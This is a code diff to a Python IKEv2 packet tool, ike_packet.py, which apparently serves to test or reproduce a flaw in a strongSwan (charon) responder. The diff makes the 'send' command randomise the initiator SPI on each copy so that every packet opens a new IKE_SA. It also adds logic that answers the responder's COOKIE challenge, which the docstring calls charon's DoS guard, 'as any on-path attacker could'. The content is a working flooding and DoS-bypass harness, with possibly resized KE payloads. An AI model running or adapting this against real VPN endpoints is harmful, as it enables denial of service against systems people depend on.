@@ -5,14 +5,21 @@
   ike_packet.py extract PCAP OUT        first IKE_SA_INIT request in a pcap (Ethernet/IPv4/UDP)
   ike_packet.py ke-resize IN OUT DELTA  grow (DELTA > 0) or shrink the KE payload's data
   ike_packet.py ke-info IN              print the KE payload's method and data length
-  ike_packet.py send IN DST PORT [N]    send the message N times over UDP (from any local port)
+  ike_packet.py send IN DST PORT [N]    send the message N times over UDP (from any local port),
+                                        each copy under a fresh random initiator SPI, so the
+                                        responder takes it for a new IKE_SA (not a retransmit);
+                                        a COOKIE demand (charon's DoS guard) is answered, as any
+                                        on-path attacker could
 """
+import os
 import socket
 import struct
 import sys
 
 IKE_HDR = 28
 KE = 34
+NOTIFY = 41
+COOKIE = 16390
 
 
 def pcap_udp_payloads(path):
@@ -52,6 +59,44 @@ def find_ke(msg):
     raise SystemExit("no KE payload")
 
 
+def cookie_of(reply):
+    """the COOKIE data of a responder's reply, or None"""
+    if len(reply) < IKE_HDR:
+        return None
+    for off, typ, length in payloads(reply):
+        if typ == NOTIFY and struct.unpack("!H", reply[off + 6:off + 8])[0] == COOKIE:
+            spi_size = reply[off + 5]
+            return bytes(reply[off + 8 + spi_size:off + length])
+    return None
+
+
+def with_cookie(msg, cookie):
+    """the message with a COOKIE notify as its first payload"""
+    first = msg[16]
+    notify = struct.pack("!BBHBBH", first, 0, 8 + len(cookie), 0, 0, COOKIE) + cookie
+    out = bytearray(msg[:IKE_HDR]) + notify + msg[IKE_HDR:]
+    out[16] = NOTIFY
+    struct.pack_into("!I", out, 24, len(out))
+    return out
+
+
+def send(msg, dst, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1.0)
+    s.sendto(bytes(msg), (dst, port))
+    try:
+        reply = s.recv(65535)
+    except socket.timeout:
+        return
+    cookie = cookie_of(reply)
+    if cookie is not None:
+        s.sendto(bytes(with_cookie(msg, cookie)), (dst, port))
+        try:
+            s.recv(65535)
+        except socket.timeout:
+            pass
+
+
 def main():
     cmd = sys.argv[1]
     if cmd == "extract":
@@ -82,9 +127,9 @@ def main():
     elif cmd == "send":
         dst, port = sys.argv[3], int(sys.argv[4])
         count = int(sys.argv[5]) if len(sys.argv) > 5 else 1
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         for _ in range(min(count, 1000)):
-            s.sendto(bytes(msg), (dst, port))
+            msg[0:8] = os.urandom(8)
+            send(msg, dst, port)
     else:
         raise SystemExit(__doc__)
 
